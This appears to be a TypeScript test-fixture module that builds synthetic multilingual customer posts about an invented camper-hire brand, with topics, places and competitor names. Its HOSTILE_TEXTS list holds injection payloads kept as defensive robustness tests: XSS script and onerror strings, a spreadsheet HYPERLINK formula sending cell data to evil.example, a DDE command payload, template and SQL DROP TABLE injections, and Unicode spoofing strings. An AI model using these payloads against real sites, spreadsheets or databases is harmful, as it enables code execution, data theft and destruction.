export type Sentiment = 'positive' | 'neutral' | 'negative'

/** Sentences by language and sentiment. `{brand}`, `{place}` and, in English, `{topic}` are filled in. */
export const SENTENCES: Readonly<Record<string, Readonly<Record<Sentiment, readonly string[]>>>> = {
  en: {
    positive: [
      'Three nights with {brand} around {place} and the {topic} was better than we hoped for.',
      'Honestly, {topic} done right. Thank you {brand}, we will be back in {place}.',
      'Picked up the camper at noon, coffee by the river at five. {brand} nailed the {topic}.',
      'If you are near {place}: {brand}. The {topic} alone is worth it.',
    ],
    neutral: [
      'Thinking of hiring a camper by the end of the month for {place}. What do you recommend? Mostly about {topic}.',
      'Does anyone know how {brand} handles {topic}?',
      'Comparing camper hire for {place}, {topic} matters most to us. Any experience with {brand}?',
      'Planning a week around {place}. {brand} or a tent?',
    ],
    negative: [
      'Third time I ask {brand} about {topic} and no answer. Never again in {place}.',
      'Camper hire in {place} has become a joke. The {topic}!',
      'We lost half a day to {topic} with {brand}. Not what we paid for.',
      'Why is {topic} always the problem with camper hire?',
    ],
  },
  es: {
    positive: [
      'Tres noches con {brand} por {place} y todo mejor de lo que esperábamos.',
      'Así se hace, {brand}. Volveremos a {place} seguro.',
      'Recogimos la camper a mediodía y ya estábamos en {place}. Genial.',
    ],
    neutral: [
      '¿Alguien ha alquilado con {brand}? ¿Cómo les fue?',
      'Buscamos camper para {place} a fin de mes, ¿qué recomiendan?',
      'Comparando precios para {place}. ¿Qué tal {brand}?',
    ],
    negative: [
      'Tercera vez que le pregunto a {brand} y nada. Qué decepción.',
      'Alquilar una camper en {place} se ha vuelto imposible.',
      'Perdimos medio día con {brand}. No lo recomiendo.',
    ],
  },
  fr: {
    positive: ['Une semaine près de {place} avec {brand}, rien à redire.', 'Merci {brand}, on reviendra !'],
    neutral: ['Quelqu’un connaît {brand} ? On cherche un van pour {place}.', 'Des avis sur {brand} ?'],
    negative: ['Encore un souci avec {brand}. Déçus.', 'Louer un van vers {place}, quelle galère.'],
  },
  de: {
    positive: ['Eine Woche um {place} mit {brand}: großartig.', 'Danke {brand}, schöner geht Camping kaum.'],
    neutral: ['Hat jemand Erfahrung mit {brand} rund um {place}?', 'Wie zufrieden seid ihr mit {brand}?'],
    negative: ['Schon wieder Ärger mit {brand}.', 'Camper mieten in {place}: nie wieder.'],
  },
  pt: {
    positive: ['Uma semana em {place} com a {brand}, adoramos.', 'O atendimento da {brand} foi ótimo!'],
    neutral: ['Alguém já alugou com a {brand} em {place}?', 'Como funciona o aluguel na {brand}?'],
    negative: ['Problema de novo, {brand}.', 'Não alugo mais em {place}.'],
  },
  ja: {
    positive: ['{brand}で{place}へ。最高でした。'],
    neutral: ['{place}でキャンピングカーを借りたい。{brand}はどうですか？'],
    negative: ['{brand}にはがっかりしました。'],
  },
  ko: {
    positive: ['{brand} 캠핑카로 {place} 여행, 정말 좋았어요.'],
    neutral: ['{place}에서 캠핑카를 빌리려는데 {brand} 어떤가요?'],
    negative: ['{brand} 때문에 실망했어요.'],
  },
  th: {
    positive: ['เช่ารถบ้านกับ {brand} ไป {place} ประทับใจมาก'],
    neutral: ['ใครเคยเช่ารถบ้าน {brand} บ้าง อยากไป {place}'],
    negative: ['ผิดหวังกับ {brand} มาก'],
  },
  ar: {
    positive: ['رحلة رائعة إلى {place} مع {brand}'],
    neutral: ['هل جرب أحد {brand} في {place}؟'],
    negative: ['تجربة سيئة مع {brand}'],
  },
  zh: {
    positive: ['和{brand}一起去{place}，非常好。'],
    neutral: ['想在{place}租房车，{brand}怎么样？'],
    negative: ['{brand}让人失望。'],
  },
}

/** What people do write and software must survive. None of it may ever run, break a row or reach a page as markup. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>alert(document.domain)</script> loved the camper',
  '<img src=x onerror=alert(1)> great trip',
  '=HYPERLINK("https://evil.example/?"&A1,"free trip")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '{{constructor.constructor "return process"}} {{{text}}}',
  "'); DROP TABLE mentions;-- nice van",
  '\u202Egnp.sdrawkcab\u202C right to left and back',
  'zero\u0000byte, tab\there,\r\nand a second line "in quotes", too',
  'https://evil.example/\u0027\u0022\u003e\u003csvg/onload=alert(1)\u003e',
  `Z${'\u0351\u036B\u0343\u036A'.repeat(40)}algo was here`,
  `Where do I begin. ${'We drove and drove and the road went on. '.repeat(600)}`,
]

export const TOPICS = [
  'price',
  'availability',
  'cleanliness',
  'breakdown',
  'pickup',
  'family space',
  'pets on board',
  'kitchen',
  'insurance',
  'route ideas',
] as const

/** The invented brand, and the invented others people compare it with. */
export const BRAND = 'Driftpine'
export const COMPETITORS = ['Roamwell', 'Kestrel Vans', 'Cabana Campers'] as const
/** Where people want to go who do not tell where they are from. */
export const PLACES = ['Yosemite', 'Moab', 'Acadia', 'Big Sur', 'Glacier'] as const
export const CATEGORY_WORDS = ['camper hire', 'van hire', 'RV rental'] as const
